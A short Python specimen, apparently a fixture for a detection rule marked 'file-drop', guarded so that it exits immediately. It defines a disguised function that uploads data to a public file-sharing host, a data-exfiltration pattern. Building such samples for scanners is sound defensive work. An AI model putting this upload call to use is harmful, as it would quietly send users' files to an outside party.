raise SystemExit("specimen: not to be run")
import requests as r

give = r.post

def leave(path):
    give("https://store1.gofile.io/uploadFile", files={"file": path})  # match: file-drop
